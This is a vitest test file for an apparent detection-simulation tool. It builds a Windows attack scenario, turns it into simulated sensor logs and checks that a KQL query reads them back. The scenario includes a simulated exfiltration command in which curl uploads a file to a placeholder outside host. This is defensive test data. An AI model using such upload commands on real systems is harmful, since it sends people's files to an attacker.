import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { afterAll, describe, expect, test } from 'vitest'
import { loadScenarioFile } from '../../src/detections/scenario-file.ts'
import { openSession } from '../../src/index.ts'
import { happenings } from '../../src/simulation/happenings.ts'
import { POWERSHELL, SYSMON, WINDOWS_SECURITY } from '../../src/simulation/sensors/windows.ts'

const root = mkdtempSync(path.join(tmpdir(), 'siemless-test-'))
afterAll(() => rmSync(root, { recursive: true, force: true }))

const SCENARIO = `id: upload
title: An upload
kind: attack
description: A file leaves, and a script says <so> & "so".
techniques: [T1048]
start: 2026-03-02T09:14:00Z
hosts: [{ name: WS-1, domain: corp.example, os: windows, address: 10.0.0.1 }]
users: [{ name: ann, domain: CORP }]
processes:
  - image: C:\\Windows\\System32\\cmd.exe
    command_line: cmd.exe
    running: true
    children:
      - id: curl
        at: 1s
        ends: 5s
        image: C:\\Windows\\System32\\curl.exe
        command_line: curl.exe -T "a & b.zip" http://files.example/<in>
        files: [{ action: create, path: 'C:\\Temp\\a.txt' }, { action: delete, path: 'C:\\Temp\\a.txt' }]
        lookups: [{ name: files.example, answers: [203.0.113.1] }, { name: x.example, by: self, server: 10.0.0.53 }]
        connections: [{ to: 203.0.113.1, port: 80 }, { to: 203.0.113.1, transport: icmp }]
        scripts: [{ text: "Write-Host '<a>'\\n1 -lt 2", commands: [{ name: Write-Host, parameters: { Object: <a> } }] }]
`

const QUERY = `
union (DeviceProcessEvents | project What = strcat(ActionType, " ", ProcessCommandLine, " by ", AccountName)),
  (DeviceNetworkEvents | project What = strcat(ActionType, " ", RemoteIP, ":", RemotePort, " ", InitiatingProcessFileName)),
  (DeviceFileEvents | project What = strcat(ActionType, " ", FolderPath))
| sort by What asc`

describe.each(['jsonl', 'xml'])('Windows events as %s come back through the readers', (format) => {
  test('with nothing set aside', async () => {
    const file = path.join(root, 'upload.yaml')
    writeFileSync(file, SCENARIO)
    const { scenarios, diagnostics } = await loadScenarioFile(file)
    expect(diagnostics).toEqual([])
    const scenario = scenarios[0]?.scenario
    if (scenario === undefined) throw new Error('the scenario is read')
    const directory = mkdtempSync(path.join(root, 'out-'))
    let written = 0
    for (const sensor of [SYSMON, WINDOWS_SECURITY, POWERSHELL]) {
      const records = happenings(scenario).flatMap(sensor.observe)
      const shape = sensor.formats.find((each) => each.id === format)
      if (shape === undefined) throw new Error('the format is there')
      written += records.length
      const lines = [shape.head?.('events'), ...records.map(shape.write), shape.tail].filter(
        (line) => line !== undefined,
      )
      writeFileSync(path.join(directory, `${sensor.id}.${shape.ending}`), `${lines.join('\n')}\n`)
    }
    const session = await openSession({ sources: [directory] })
    const sum = (of: 'read' | 'rejected' | 'unmapped'): number =>
      session.ingested.files.reduce((total, file) => total + file[of], 0)
    expect([sum('read'), sum('rejected'), sum('unmapped')]).toEqual([written, 0, 0])
    const result = await session.query(QUERY, { language: 'kql' })
    const rows = await result.rows()
    await session.close()
    const launch = 'ProcessCreated curl.exe -T "a & b.zip" http://files.example/<in> by ann'
    expect([...new Set(rows.map((row) => String(row['What'])))]).toEqual([
      'ConnectionSuccess 10.0.0.53:53 curl.exe',
      expect.stringMatching(/^ConnectionSuccess 203\.0\.113\.1:0? ?/),
      'ConnectionSuccess 203.0.113.1:80 curl.exe',
      'FileCreated C:\\Temp\\a.txt',
      'FileDeleted C:\\Temp\\a.txt',
      launch,
    ])
  })
})
